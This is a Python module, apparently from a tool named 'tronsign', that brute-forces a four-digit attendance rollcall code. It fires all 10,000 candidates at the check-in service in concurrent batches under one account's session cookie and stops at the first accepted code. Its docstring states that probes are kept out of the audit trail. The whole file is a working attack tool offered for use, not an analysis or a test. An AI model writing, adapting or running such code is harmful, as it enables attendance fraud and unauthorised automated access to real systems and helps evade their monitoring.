import logging
from concurrent.futures import ThreadPoolExecutor, wait
from typing import List, Optional

from .errors import ExhaustedError, NoCookieError
from .executor import AttemptExecutor
from .models import CODE_SPACE, Account, BruteForceSession, ProbeResult

logger = logging.getLogger("tronsign.bruteforce")


class BruteForceSearch:
    """
    Recovers a numeric rollcall code by probing 0000..9999 with one account.

    Batches run strictly one after another; every probe in a batch settles
    before the batch is inspected, and the first batch holding a hit ends the
    search. Probes are never written to the audit trail.
    The caller must hold the SessionLock for the duration of search().
    """

    def __init__(self, executor: AttemptExecutor, batch_size: int = 500, max_workers: int = 64):
        if batch_size < 1:
            raise ValueError("batch_size must be >= 1")
        self.executor = executor
        self.batch_size = batch_size
        self.max_workers = max_workers
        self.last_session: Optional[BruteForceSession] = None

    def _run_batch(self, pool: ThreadPoolExecutor, account: Account, rollcall_id: str,
                   codes: List[str]) -> List[ProbeResult]:
        futures = [pool.submit(self.executor.probe, account, rollcall_id, code) for code in codes]
        wait(futures)

        results = []
        for code, future in zip(codes, futures):
            try:
                results.append(future.result())
            except Exception as exc:
                logger.debug("Probe %s raised: %s", code, exc)
                results.append(ProbeResult(code=code, success=False))
        return results

    def search(self, rollcall_id: str, probe_account: Account) -> str:
        if not probe_account.has_cookie:
            raise NoCookieError(f"Probe account {probe_account.name or probe_account.id} has no usable cookie")

        session = BruteForceSession(
            rollcall_id=str(rollcall_id),
            probe_account_id=probe_account.id,
            batch_size=self.batch_size,
        )
        self.last_session = session
        logger.info("Starting code search for rollcall %s with account %s (batch=%d)",
                    rollcall_id, probe_account.name or probe_account.id, self.batch_size)

        workers = max(1, min(self.max_workers, self.batch_size))
        with ThreadPoolExecutor(max_workers=workers) as pool:
            for codes in session.batches():
                results = self._run_batch(pool, probe_account, session.rollcall_id, codes)
                session.batches_run += 1
                session.probes_sent += len(codes)

                hit = next((r for r in results if r.success), None)
                if hit:
                    session.discovered_code = hit.code
                    logger.info("Found code %s for rollcall %s after %d probe(s)",
                                hit.code, rollcall_id, session.probes_sent)
                    return hit.code

                logger.debug("Batch %s..%s exhausted", codes[0], codes[-1])

        raise ExhaustedError(
            f"No valid code for rollcall {rollcall_id} in 0000-{CODE_SPACE - 1}",
            probes_sent=session.probes_sent,
        )
